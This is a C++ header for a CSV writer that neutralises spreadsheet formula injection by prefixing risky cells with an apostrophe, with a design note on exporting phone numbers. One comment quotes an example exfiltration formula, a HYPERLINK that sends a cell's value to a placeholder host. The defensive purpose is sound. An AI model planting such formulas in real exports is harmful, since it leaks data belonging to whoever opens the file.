// SPDX-License-Identifier: AGPL-3.0-or-later
// CSV writer: exports and import reports as RFC 4180 files that a spreadsheet
// opens as data, never as formulas.
//
// Spec: RFC 4180 (CRLF line ends; a cell holding the delimiter, a quote, CR or
// LF is quoted and its quotes doubled; every row has the header's cell count)
// and security-model.md §2.12 / §4 row 12, after OWASP "CSV Injection" and
// ASVS 5.0 1.2.10: a cell whose first character is = + - @ TAB CR or NUL (or
// the full-width ＝ ＋ － ＠ that some spreadsheets also evaluate) is written
// with a leading apostrophe, so `=HYPERLINK("http://x/?"&A2)` and `@SUM(1)`
// stay text. Cells also get the apostrophe when they already start with
// apostrophes followed by such a character, which keeps the escape reversible:
// StripFormulaGuard(guarded cell) == original cell, for every cell.
// Cells that start or end with a space are quoted too, for tools that trim,
// a row of one empty cell is written `""` so it is not a blank line, and a
// first row of one cell "sep=X" is quoted so it is not Excel's delimiter hint.
//
// Decision, E.164 phones: a column declared ColumnKind::kPhone writes a cell
// that is exactly '+' and 7-15 digits (E.164) WITHOUT the apostrophe, by
// default (PhoneExport::kE164). Rationale: '+digits' cannot call a function,
// reference a cell or reach DDE; the worst a spreadsheet does is show it as
// the number 15550100000 (dropping the '+' on screen only). Keeping the '+'
// keeps the export unambiguous for every importer (Spoke, Action Network,
// VAN, hotshop itself: "447911123456" without '+' would be misread under a
// US default region) and byte-exact on re-import. Any other text in a phone
// column (e.g. "+1 555 CALL =X") is guarded like any cell. kDigitsOnly
// ("15550100000") and kGuarded ("'+15550100000") exist for a destination
// that needs them.
//
// Thread rule: a CsvWriter belongs to one thread; the free functions are pure.
#pragma once

#include <cstdint>
#include <initializer_list>
#include <ostream>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "core/result.h"

namespace hotshop::io {

enum class ColumnKind : uint8_t {
  kText,   // everything is guarded by the formula rule
  kPhone,  // an E.164 cell is written per PhoneExport
};

enum class PhoneExport : uint8_t {
  kE164,        // "+15550100000" (default, see the decision above)
  kDigitsOnly,  // "15550100000"
  kGuarded,     // "'+15550100000", like any other cell starting with '+'
};

struct CsvWriterOptions {
  char delimiter = ',';
  bool utf8_bom = false;  // Excel on Windows needs it to read UTF-8
  PhoneExport phone_export = PhoneExport::kE164;
};

// True when `cell` gets the apostrophe: it matches ^'*[=+\-@\t\r\0] or starts
// with a full-width ＝ ＋ － ＠ after any apostrophes. Never fails.
bool NeedsFormulaGuard(std::string_view cell);

// Inverse of the guard, for re-importing hotshop's own exports: drops one
// leading apostrophe iff the rest needs the guard. Never fails.
std::string_view StripFormulaGuard(std::string_view cell);

// True for '+' followed by 7 to 15 ASCII digits, the first not '0'.
bool IsE164(std::string_view cell);

// Appends `cell` to `out` as one CSV cell (guarded, quoted as needed; no
// delimiter, no line end). Never fails.
// REQUIRES: delimiter is not '"', CR or LF.
void AppendCsvCell(std::string_view cell, char delimiter, ColumnKind kind,
                   PhoneExport phone_export, std::string& out);

class CsvWriter {
 public:
  // REQUIRES: `out` outlives the writer; options.delimiter is not '"', CR, LF.
  explicit CsvWriter(std::ostream& out, CsvWriterOptions options = {});
  CsvWriter(const CsvWriter&) = delete;
  CsvWriter& operator=(const CsvWriter&) = delete;
  // Does not flush: call Finish() to learn whether the data reached `out`.
  ~CsvWriter();

  // Declares column kinds by index; columns past the end are kText.
  void SetColumnKinds(std::vector<ColumnKind> kinds);

  // Writes one row with a CRLF. The first row fixes the cell count; a row
  // with another count fails with kInvalidInput on field "row" and writes
  // nothing. Fails with kUnavailable when `out` goes bad (disk full).
  Status WriteRow(std::span<const std::string_view> cells);
  Status WriteRow(std::initializer_list<std::string_view> cells);
  Status WriteRow(const std::vector<std::string>& cells);

  // Flushes buffered rows to `out`. Fails with kUnavailable when `out` is bad.
  Status Finish();

  uint64_t rows_written() const { return rows_; }

 private:
  Status FlushIfFull();
  Status Flush();

  std::ostream* out_;
  CsvWriterOptions opt_;
  std::vector<ColumnKind> kinds_;
  std::string buf_;
  std::vector<std::string_view> scratch_;
  size_t width_ = 0;  // cells per row, fixed by the first row
  uint64_t rows_ = 0;
  bool bom_pending_;
};

}  // namespace hotshop::io
